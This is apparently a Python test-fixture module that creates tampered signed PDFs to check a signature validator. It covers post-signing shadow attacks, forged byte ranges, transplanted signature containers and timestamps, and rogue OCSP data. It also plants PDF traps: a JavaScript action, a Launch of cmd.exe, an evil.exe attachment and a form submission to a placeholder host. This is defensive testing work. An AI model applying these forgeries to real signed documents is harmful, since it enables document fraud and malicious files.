"""How the hostile variants of ``test_signing_hostile`` are made from our own signed documents."""

import asyncio
import io
import re

import pikepdf
from asn1crypto import cms as asn1_cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields as pdf_fields
from pyhanko.sign import signers as pyhanko_signers
from pyhanko.sign.signers.pdf_cms import PdfCMSSignedAttributes
from pyhanko_certvalidator.registry import SimpleCertificateStore

try:
    from . import signing_common as common
except ImportError:
    import signing_common as common

pades, pki = common.pades, common.pki


# --- tools ------------------------------


def dictionary(**values):
    """A PDF dictionary: ``Type='/Annot'`` gives ``/Type /Annot``."""
    return generic.DictionaryObject({pdf_name(f"/{key}"): value for key, value in values.items()})


def numbers(*values):
    return generic.ArrayObject(generic.FloatObject(value) for value in values)


def first_page(writer):
    return writer.root["/Pages"]["/Kids"][0].get_object()


def appearance(content=b"1 g 0 0 400 200 re f"):
    """A white sheet over whatever lies below."""
    return generic.StreamObject(
        dictionary(Type=pdf_name("/XObject"), Subtype=pdf_name("/Form"), BBox=numbers(0, 0, 400, 200)),
        stream_data=content,
    )


def changed(change, base="issued"):
    """Append a revision in which ``change(writer)`` was done."""
    return common.update(getattr(common, base)(), change)


def signed_with(profile=None, *, authority=None):
    """The document signed with a certificate that pades itself would refuse."""
    authority = authority or common.authority()
    identity = authority.issue_person(common.NAME, organization="UBND", profile=profile or pki.DEFAULT_PROFILE)
    return signed_unchecked(common.prepared(), identity)


def signed_unchecked(pdf, identity, *, digest="sha256", field="person_1", timestamper=None, moment=None, certify=True):
    """Sign with pyHanko alone: no certificate is too bad."""
    signer = unchecked_signer(identity)
    meta = pyhanko_signers.PdfSignatureMetadata(
        field_name=field,
        md_algorithm=digest,
        subfilter=pdf_fields.SigSeedSubFilter.PADES,
        certify=certify,
        docmdp_permissions=pdf_fields.MDPPerm.FILL_FORMS,
    )
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    job = pyhanko_signers.PdfSigner(meta, signer, timestamper=timestamper)
    if moment is None:
        return job.sign_pdf(writer, bytes_reserved=32_000).getvalue()
    return job_at(job, writer, moment)


def unchecked_signer(identity):
    """pyHanko's own signer with the key of an identity."""
    store = SimpleCertificateStore()
    store.register_multiple([pki.as_asn1(cert) for cert in identity.chain])
    return pyhanko_signers.SimpleSigner(identity.asn1, common.private_key_info(identity), store)


def sign_in(writer, identity, field, output):
    """Sign a field that a writer has just got, with the picture that it has, in one revision."""
    meta = pyhanko_signers.PdfSignatureMetadata(
        field_name=field, md_algorithm="sha256", subfilter=pdf_fields.SigSeedSubFilter.PADES
    )
    job = pyhanko_signers.PdfSigner(meta, unchecked_signer(identity), stamp_style=_Kept())
    job.sign_pdf(writer, bytes_reserved=32_000, output=output)


class _Kept:
    """A stamp style that leaves the appearance as it is."""

    def create_stamp(self, _writer, _box, _text_params):
        return self

    def apply_appearance(self, _annotation):
        pass


def job_at(job, writer, moment):
    """Sign and write another time than the present."""

    async def run():
        session = job.init_signing_session(writer)
        session.system_time = moment
        document = session.prepare_tbs_document(None, 32_000)
        digest, output = document.digest_tbs_document()
        await document.perform_signature(digest.document_digest, PdfCMSSignedAttributes())
        return output.getvalue()

    return asyncio.run(run())


def byte_range(pattern):
    """Overwrite the last byte range in place, length kept."""
    pdf = common.issued()
    match = list(re.finditer(rb"/ByteRange ?\[[^\]]*\]", pdf))[-1]
    values = [int(value) for value in re.findall(rb"\d+", match.group())]
    new = b"/ByteRange [" + b" ".join(b"%d" % value for value in pattern(values, len(pdf)))
    assert len(new) + 1 <= len(match.group()), "no room for the forged byte range"
    return pdf[: match.start()] + (new.ljust(len(match.group()) - 1) + b"]") + pdf[match.end() :]


def contents(replace):
    """Replace the hexadecimal container of the last signature, length kept."""
    pdf = common.issued()
    match = list(re.finditer(rb"/Contents ?<([0-9A-Fa-f]+)>", pdf))[-1]
    new = replace(match.group(1))
    assert len(new) == len(match.group(1))
    return pdf[: match.start(1)] + new + pdf[match.end(1) :]


def with_original(change):
    """Change the draft first, then sign it: the trap was there before the signature."""
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(common.draft())) as document:
        change(document)
        document.save(buffer)
    prepared = pades.prepare(buffer.getvalue(), common.found_places(common.draft()))
    return pades.sign_person(prepared, common.signer_of(common.person()), image_png=common.signature_png())


# --- what is done to the file after signing ------------------------------


def add_page(writer):
    writer.insert_page(blank_page(writer))


def blank_page(writer):
    content = writer.add_object(generic.StreamObject(stream_data=b"0 0 100 100 re f"))
    return dictionary(
        Type=pdf_name("/Page"),
        MediaBox=numbers(0, 0, 595, 842),
        Contents=content,
        Resources=generic.DictionaryObject(),
    )


def annotate(writer, subtype="/Stamp", **more):
    annotation = dictionary(
        Type=pdf_name("/Annot"),
        Subtype=pdf_name(subtype),
        Rect=numbers(50, 500, 550, 700),
        F=generic.NumberObject(4),
        AP=dictionary(N=writer.add_object(appearance())),
        **more,
    )
    reference = writer.add_object(annotation)
    page_ref, _resources = writer.find_page_for_modification(0)
    writer.register_annotation(page_ref, reference)


def replace_page_content(writer):
    page = first_page(writer)
    page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=b"0 0 300 300 re f"))
    writer.update_container(page)


def overwrite_content_in_place(writer):
    """Shadow replace: the object that the page names gets another content."""
    reference = first_page(writer).raw_get("/Contents")
    reference = reference[0] if isinstance(reference, generic.ArrayObject) else reference
    writer.objects[(reference.reference.generation, reference.reference.idnum)] = generic.StreamObject(
        stream_data=b"BT ET"
    )


def replace_font(writer):
    """Shadow replace by the font: the same codes show other letters."""
    fonts = first_page(writer)["/Resources"]["/Font"]
    name = next(iter(fonts))
    fonts[name] = writer.add_object(
        dictionary(Type=pdf_name("/Font"), Subtype=pdf_name("/Type1"), BaseFont=pdf_name("/Symbol"))
    )
    writer.update_container(fonts)


def hide_below(writer):
    """Shadow hide: the page tree points to another page with the same number."""
    pages, page = writer.root["/Pages"], blank_page(writer)
    page[pdf_name("/Parent")] = writer.root.raw_get("/Pages")
    pages["/Kids"][0] = writer.add_object(page)
    writer.update_container(pages)


def swap_catalog(writer):
    root = writer.root
    page = writer.add_object(blank_page(writer))
    root[pdf_name("/Pages")] = writer.add_object(
        dictionary(Type=pdf_name("/Pages"), Kids=generic.ArrayObject([page]), Count=generic.NumberObject(1))
    )
    writer.update_root()


def set_text(name, text, *, value=True):
    def change(writer):
        field = pades.form_fields(writer)[name][1]
        if value:
            field[pdf_name("/V")] = pdf_string(text)
        field[pdf_name("/AP")] = dictionary(N=writer.add_object(appearance()))
        writer.update_container(field)

    return change


def drop_signature(writer):
    field = pades.form_fields(writer)["agency"][1]
    del field["/V"]
    writer.update_container(field)


def drop_field(writer):
    fields = writer.root["/AcroForm"]["/Fields"]
    del fields[-1]
    writer.update_container(fields)


def drop_certification(writer):
    del writer.root["/Perms"]
    writer.update_root()


def repaint_seal(writer):
    field = pades.form_fields(writer)["agency"][1]
    field[pdf_name("/AP")] = dictionary(N=writer.add_object(appearance()))
    writer.update_container(field)


def move_field(writer):
    field = pades.form_fields(writer)["agency"][1]
    field[pdf_name("/Rect")] = numbers(0, 0, 500, 800)
    writer.update_container(field)


def add_text_field(writer):
    field = dictionary(FT=pdf_name("/Tx"), T=pdf_string("more"), V=pdf_string("1 tỷ đồng"), Rect=numbers(0, 0, 9, 9))
    writer.root["/AcroForm"]["/Fields"].append(writer.add_object(field))
    writer.update_container(writer.root["/AcroForm"]["/Fields"])


def add_script_later(writer):
    writer.root[pdf_name("/OpenAction")] = dictionary(S=pdf_name("/JavaScript"), JS=pdf_string("app.alert(1)"))
    writer.update_root()


def extra_signature(visible):
    """A trusted person adds a field of his own after certification."""

    def build():
        spec = pdf_fields.SigFieldSpec("extra", box=(50, 500, 550, 700) if visible else None)
        pdf = common.update(common.issued(), lambda writer: pdf_fields.append_signature_field(writer, spec))
        return signed_unchecked(pdf, common.person(), field="extra", certify=False)

    return build


def swapped_contents():
    """The container of the agency's signature under another document."""
    other = pades.fill_number_and_date(common.signed_by_person(), number="99", day="23", month="11")
    other = pades.sign_agency(other, common.signer_of(common.agency()), seal_png=common.seal_png())
    stolen = list(re.finditer(rb"/Contents ?<([0-9A-Fa-f]+)>", other))[-1].group(1)
    return contents(lambda _own: stolen)


def hidden_behind_container():
    def replace(container):
        data = bytes.fromhex(container.decode())
        size = len(asn1_cms.ContentInfo.load(data).dump())
        return (data[:size] + b"<script>" + data[size + 8 :]).hex().encode()

    return contents(replace)


def flipped_signature_value():
    def replace(container):
        data = bytes.fromhex(container.decode())
        value = asn1_cms.ContentInfo.load(data)["content"]["signer_infos"][0]["signature"].native
        return data.replace(value, bytes([value[0] ^ 1]) + value[1:]).hex().encode()

    return contents(replace)


def refilled_number():
    """Number 15, then 99, between the person's signature and the agency's."""
    return common.update(common.numbered(), set_text("number", "99"))


# --- keys, time stamps, revocation ------------------------------


def now():
    return common.trust.now()


def fake_authority():
    """An authority with the names of ours and other keys."""
    return pki.make_authority("VPDT Test")


def forged_timestamp():
    """A token for another signature, moved into this one."""
    foreign = signed_unchecked(common.prepared(), common.person(), timestamper=common.timestamper())
    own = signed_unchecked(common.prepared(), common.person(), timestamper=common.timestamper())
    pattern = rb"/Contents ?<([0-9A-Fa-f]+)>"
    theirs, ours = (re.search(pattern, pdf) for pdf in (foreign, own))
    stranger = asn1_cms.ContentInfo.load(bytes.fromhex(theirs.group(1).decode()))
    container = asn1_cms.ContentInfo.load(bytes.fromhex(ours.group(1).decode()))
    container["content"]["signer_infos"][0]["unsigned_attrs"] = stranger["content"]["signer_infos"][0]["unsigned_attrs"]
    data = container.dump(force=True).hex().encode().ljust(len(ours.group(1)), b"0")
    return own[: ours.start(1)] + data + own[ours.end(1) :]


def timestamp_by_person():
    """The time stamper is an official, not a TSA."""
    return signed_unchecked(common.prepared(), common.person(), timestamper=common.timestamper(common.person()))


def timestamp_of_stranger():
    stranger = pki.make_authority("Stranger").issue_tsa()
    return signed_unchecked(common.prepared(), common.person(), timestamper=common.timestamper(stranger))


def with_store(**entries):
    def change(writer):
        values = {key: [generic.StreamObject(stream_data=data) for data in items] for key, items in entries.items()}
        store = dictionary(Type=pdf_name("/DSS"))
        for key, streams in values.items():
            store[pdf_name(f"/{key}")] = generic.ArrayObject(writer.add_object(stream) for stream in streams)
        writer.root[pdf_name("/DSS")] = writer.add_object(store)
        writer.update_root()

    return changed(change)


def ocsp_of_stranger():
    """An answer about our certificate by somebody else's authority."""
    return with_store(OCSPs=[fake_authority().ocsp(common.person().cert)])


def ocsp_about_another():
    other = common.authority().issue_person("Lê Văn Khác", organization="?")
    return with_store(OCSPs=[common.authority().ocsp(other.cert)])


def ocsp_says_revoked():
    return with_store(OCSPs=[common.authority().ocsp(common.person().cert, revoked_at=now() - common.DAY / 2)])


# --- traps in the original ------------------------------


def script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launch(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def hidden_launch(document):
    """The kind of action is a reference: whoever compares it with a name sees none."""
    kind = document.make_indirect(pikepdf.Name.Launch)
    document.Root.OpenAction = pikepdf.Dictionary(S=kind, F="cmd.exe")


def attachment(document):
    document.attachments["evil.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


def submit(document):
    document.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://example.invalid/")
    )
